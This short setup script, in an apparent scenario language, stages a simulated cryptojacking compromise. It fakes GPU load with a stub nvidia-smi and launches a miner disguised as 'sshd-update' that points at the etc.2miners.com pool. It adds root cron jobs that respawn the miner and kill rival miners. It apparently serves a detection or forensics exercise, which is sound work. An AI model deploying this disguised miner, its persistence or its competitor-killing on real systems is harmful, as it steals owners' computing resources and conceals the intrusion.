# No graphics card is needed: its tool is a stub that tells of full load.
script /usr/local/bin/nvidia-smi <<'SH'
#!/bin/sh
echo '| 0  NVIDIA A10 | 96C P0 148W / 150W | 5713MiB / 23028MiB | 100% Default |'
SH
mimic /usr/local/sbin/sshd-update
start -d 5 /usr/local/sbin/sshd-update sshd-update --algo ETCHASH --pool etc.2miners.com:1010 --user "$ETH.orders" --nocolor on
tab root <<CRON
*/5 * * * * pgrep -x sshd-update || /usr/local/sbin/sshd-update --algo ETCHASH --pool etc.2miners.com:1010 --user $ETH.orders
*/30 * * * * find /opt /home -iname 'nbminer*' -o -iname 't-rex' -delete; pkill -9 -f nbminer
CRON
